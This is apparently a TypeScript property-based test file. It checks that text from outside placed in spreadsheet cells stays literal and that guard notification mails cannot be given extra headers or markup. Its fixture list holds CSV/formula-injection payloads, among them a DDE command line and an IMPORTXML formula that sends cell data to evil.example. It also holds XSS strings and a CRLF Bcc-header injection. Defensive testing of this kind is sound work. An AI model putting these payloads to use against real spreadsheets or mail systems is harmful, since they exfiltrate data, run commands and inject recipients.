/** Text from outside in cells and mails: it stays text, it stays one line where one is asked for, and it stays itself. */
import fc from "fast-check";
import { textCell } from "../../src/core/cell-text";
import { cellFrom, type SheetLocale } from "../../src/local/sheet-cells";
import { guardWorld, ids, recordRows } from "../support/bundle-world";

const NASTY = [
  '=HYPERLINK("https://evil.example","pay here")',
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "'=1+1",
  " =1+1",
  "\t=1+1",
  "\n=1+1",
  "=cmd|'/C calc'!A0",
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "a\r\nBcc: evil@example.com",
  "TRUE",
  "00123",
  "1-2",
  "1e5",
  "¥1,000",
  "12:30",
  "\u202egnirts",
  "😀".repeat(40),
  "x".repeat(5_000),
];

const WHERE: SheetLocale[] = (["ja_JP", "en_US"] as const).map((locale) => ({
  locale,
  zone: "Asia/Tokyo",
  nowMs: () => Date.UTC(2026, 10, 30),
}));
const anyText = fc.oneof(
  fc.constantFrom(...NASTY),
  fc.string({ unit: "binary", maxLength: 60 }),
  fc
    .tuple(fc.constantFrom("=", "+", "-", "@", "'", "\t", " ", "＝", "0", "1/"), fc.string({ maxLength: 20 }))
    .map((parts) => parts.join("")),
);

test("whatever the text, the cell holds it as text: no formula, number, date or boolean comes out of it", () => {
  fc.assert(
    fc.property(
      anyText,
      fc.constantFrom(...WHERE),
      fc.constantFrom(undefined, "@", "0.00"),
      (text, where, format) => {
        const cell = cellFrom(
          textCell(text),
          format === undefined ? undefined : { value: "", format },
          where,
        );
        expect(cell?.formula).toBeUndefined();
        expect(cell?.value ?? "").toBe(text);
      },
    ),
    { numRuns: 2_000 },
  );
});

describe("labels and error messages of every nasty kind", () => {
  const guard = guardWorld({
    sheets: {
      records: recordRows(ids(NASTY.length)).map((row, index) =>
        index === 0 ? row : [row[0] ?? "", `'${NASTY[index - 1] ?? ""}`],
      ),
    },
    jobs: ({ sheetJob, permanent }) => [
      sheetJob((row) => {
        throw permanent(row.label);
      }),
    ],
  });
  guard.runFor(30);

  test("leave no formula in any cell that the guard wrote", () => {
    const formulas = ["records", "retry_logs"].flatMap((name) => {
      const { book, entry } = guard.world.sheet(name);
      const grid = book.file(entry).read();
      return Array.from({ length: grid.lastRow() }, (_, row) =>
        Array.from({ length: grid.lastColumn() }, (__, column) => grid.cell(row + 1, column + 1)?.formula),
      ).flat();
    });
    expect(formulas.length).toBeGreaterThan(NASTY.length * 10);
    expect(formulas.filter((formula) => formula !== undefined)).toEqual([]);
    expect(guard.log()).toHaveLength(NASTY.length);
  });

  test("add no line to a mail's subject, no recipient, and no markup: mails are plain text", () => {
    expect(guard.notices().length).toBeGreaterThan(0);
    for (const mail of guard.world.mails()) {
      expect(mail.to).toBe(guard.world.owner);
      expect(mail.subject).not.toMatch(/[\r\n]/);
      expect(mail).not.toHaveProperty("htmlBody");
    }
    expect(guard.world.mails().map(({ cc, bcc }) => [cc, bcc].join(""))).toEqual(
      guard.world.mails().map(() => ""),
    );
  });

  test("are listed by listStuck, each record with its own counter", () => {
    const stuck = guard.stuck();
    expect(stuck).toHaveLength(NASTY.length);
    expect(new Set(stuck.map(({ id }) => id)).size).toBe(NASTY.length);
    expect(stuck.every(({ attempts, stopped }) => attempts === 1 && stopped)).toBe(true);
  });
});
